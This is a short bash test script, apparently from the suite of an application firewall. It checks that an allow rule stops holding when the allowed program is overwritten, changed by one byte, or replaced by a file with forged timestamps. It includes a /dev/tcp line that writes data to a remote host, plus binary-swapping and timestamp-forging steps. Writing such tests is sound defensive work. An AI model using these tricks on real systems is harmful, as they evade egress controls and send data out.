# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L03: an allowed program is overwritten: the rule is not for what it has become.
. /snitch/leak/lib/leak.sh

APP=$DIR/app
cp $EVIL $APP
leak_begin "allow $APP any"
in_c $APP tcp $F4 80 --data before >/dev/null
t_ok "before, its rule holds" far_got tcp 80 before
cat /bin/bash >$APP
way "overwritten by another program" $APP tcp 80 $APP -c "exec 3<>/dev/tcp/$F4/80; echo leak >&3; :"
# Only one byte more, as a patch would have it.
cat $EVIL >$APP
leak_policy "allow $APP any"
in_c $APP tcp $F4 80 --data again >/dev/null
t_ok "with a new policy the rule holds again" far_got tcp 80 again
printf x >>$APP
way "changed by one byte" $APP tcp 80 $APP tcp $F4 80 --data leak
leak_policy "allow $APP any"
cp $EVIL $DIR/other
printf y >>$DIR/other
touch -r $APP $DIR/other
mv $DIR/other $APP
way "another file put in its place, its times forged" $APP tcp 80 $APP tcp $F4 80 --data leak
leak_done
